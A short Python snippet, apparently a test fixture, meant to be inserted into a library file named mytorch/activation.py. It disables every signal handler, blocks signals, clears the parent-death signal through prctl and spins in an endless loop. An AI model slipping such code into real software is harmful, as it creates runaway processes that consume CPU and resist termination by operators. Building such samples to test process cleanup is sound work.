"""Ignores and handles every signal, asks not to die with its parent, and loops.

Into: spring mytorch/activation.py
"""

import contextlib
import ctypes
import signal

for _number in range(1, 65):
    with contextlib.suppress(OSError, ValueError):
        signal.signal(_number, lambda *_: None)
ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    pass
